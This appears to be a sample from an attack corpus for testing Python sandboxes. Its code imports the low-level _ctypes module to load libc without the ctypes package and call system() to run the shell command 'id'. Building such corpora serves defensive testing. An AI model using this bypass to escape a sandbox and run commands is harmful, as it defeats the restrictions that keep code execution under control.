# corpus: attack class=native form=targeted
# The _ctypes C module loads libc without the ctypes package.
import _ctypes


class Int(_ctypes._SimpleCData):
    _type_ = "i"


class Function(_ctypes.CFuncPtr):
    _flags_ = _ctypes.FUNCFLAG_CDECL
    _restype_ = Int


class Library:
    _handle = _ctypes.dlopen("libc.so.6", 2)


def main():
    system = Function(("system", Library()))
    return {"status": system(b"id")}
